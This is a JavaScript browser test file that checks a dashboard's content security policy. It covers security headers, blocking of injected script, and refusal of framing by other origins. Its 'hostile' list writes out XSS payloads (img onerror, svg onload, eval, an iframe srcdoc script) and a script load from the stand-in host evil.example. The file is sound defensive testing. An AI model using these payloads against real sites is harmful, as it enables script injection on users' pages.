// The dashboard under its content security policy, in a real browser: node --test tests/browser/security.mjs
// Every page works without one violation; and what an attacker who could write into a page would try does not run.
import assert from 'node:assert/strict';
import {once} from 'node:events';
import {createServer} from 'node:http';
import {after, before, test} from 'node:test';
import {launchBrowser, listenForErrors, Telltale} from './harness.mjs';

const patience = {timeout: 15_000};
let telltale, browser, page;
const errors = [];

before(async () => {
  telltale = await Telltale.start();
  browser = await launchBrowser();
  const context = await browser.newContext();
  // The page itself says what its policy refused, before anything else runs in it.
  await context.addInitScript(() => {
    globalThis.violations = [];
    addEventListener('securitypolicyviolation', (event) => globalThis.violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
  });
  page = await context.newPage();
  listenForErrors(page, errors);
  await page.goto(telltale.loginLink);
  await page.locator('[data-testid="connection-state"][data-state="live"]').waitFor(patience);
});
after(async () => {
  await browser?.close();
  await telltale?.stop();
});

const violations = () => page.evaluate(() => globalThis.violations.splice(0));

test('every page of the dashboard works without a violation', {timeout: 60_000}, async () => {
  const paths = ['/', ...(await page.locator('nav a[href^="/"]').evaluateAll((links) => links.map((link) => new URL(link.href).pathname)))];
  assert.ok(paths.length >= 3, `the navigation names ${paths}`);
  for (const path of [...new Set(paths), '/servers/everything?tab=tools', '/servers/everything?tab=logs', '/docs']) {
    await page.goto(telltale.origin + path);
    await page.locator('main, [role="main"], #root > *').first().waitFor(patience);
    assert.deepEqual(await violations(), [], path);
  }
  assert.deepEqual(errors.splice(0), []);
});

test('every answer carries the headers', async () => {
  const page_ = await fetch(telltale.origin + '/');
  const data = await fetch(telltale.origin + '/api/servers');
  for (const answer of [page_, data]) {
    assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(answer.headers.get('referrer-policy'), 'no-referrer');
    const policy = answer.headers.get('content-security-policy');
    assert.match(policy, /frame-ancestors 'none'/);
    assert.doesNotMatch(policy, /unsafe-|\*|http:/);
  }
  assert.match(page_.headers.get('content-security-policy'), /require-trusted-types-for 'script'/);
  assert.match(data.headers.get('content-security-policy'), /default-src 'none'/);
});

const hostile = [
  ['innerHTML', () => { document.body.innerHTML = '<img src=x onerror="globalThis.pwned = 1">'; }],
  ['insertAdjacentHTML', () => { document.body.insertAdjacentHTML('beforeend', '<svg onload="globalThis.pwned = 1"></svg>'); }],
  ['document.write', () => { document.write('<p>x'); }],
  ['srcdoc', () => { const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.pwned = 1<\/script>'; document.body.append(frame); }],
  ['eval', () => { globalThis.eval('globalThis.pwned = 1'); }],
  ['Function', () => { new Function('globalThis.pwned = 1')(); }],
  ['a timer with text', () => { setTimeout('globalThis.pwned = 1', 0); }],
  ['a script by text', () => { const script = document.createElement('script'); script.text = 'globalThis.pwned = 1'; document.body.append(script); }],
  ['a script of another host', () => { const script = document.createElement('script'); script.src = 'https://evil.example/x.js'; document.body.append(script); }],
  ['a policy of its own', () => { globalThis.trustedTypes.createPolicy('mine', {createHTML: (text) => text}); }],
  ['DOMParser', () => { document.body.append(...new DOMParser().parseFromString('<img src=x onerror="globalThis.pwned = 1">', 'text/html').body.children); }],
];
// The attack comes in through the debugger, which no policy binds; it runs later, as the page's own doing.
for (const [name, attack] of hostile)
  test(`refused: ${name}`, {timeout: 30_000}, async () => {
    await page.goto(telltale.origin + '/');
    await page.locator('[data-testid="connection-state"]').waitFor(patience);
    await page.evaluate(`(() => {
      globalThis.pwned = 0;
      setTimeout(() => { try { (${attack})(); globalThis.thrown = ''; } catch (error) { globalThis.thrown = String(error); } });
    })()`);
    await page.waitForFunction(() => globalThis.thrown || (globalThis.thrown === '' && globalThis.violations.length > 0), undefined, patience);
    await page.evaluate(() => new Promise((done) => setTimeout(done))); // a timer that was taken would run before this one
    assert.equal(await page.evaluate(() => globalThis.pwned), 0, 'it ran');
    errors.length = 0;
  });

test('an inline script, style or handler in the document does not run', {timeout: 30_000}, async () => {
  // As if our own page had been written to on the way: the same headers, another body.
  await page.route('**/written', async (route) => {
    const answer = await page.request.get(telltale.origin + '/');
    await route.fulfill({headers: answer.headers(), body: '<!doctype html><p id=p onclick="globalThis.pwned=1">x</p><style>p{color:rgb(1,2,3)}</style><script>globalThis.pwned=1</script>'});
  });
  await page.goto(telltale.origin + '/written');
  await page.click('#p');
  assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
  assert.notEqual(await page.evaluate(() => getComputedStyle(document.getElementById('p')).color), 'rgb(1, 2, 3)');
  assert.ok((await violations()).length >= 3);
  errors.length = 0;
});

test('no other page can frame the dashboard', {timeout: 30_000}, async () => {
  const other = createServer((_, answer) => answer.setHeader('content-type', 'text/html').end(`<iframe id=f src="${telltale.origin}/"></iframe>`));
  other.listen(0, '127.0.0.1');
  await once(other, 'listening');
  const visitor = await (await browser.newContext()).newPage();
  const refused = visitor.waitForEvent('console', {predicate: (message) => /frame-ancestors|X-Frame-Options/i.test(message.text()), ...patience});
  await visitor.goto(`http://127.0.0.1:${other.address().port}/`);
  await refused;
  await visitor.context().close();
  other.close();
});
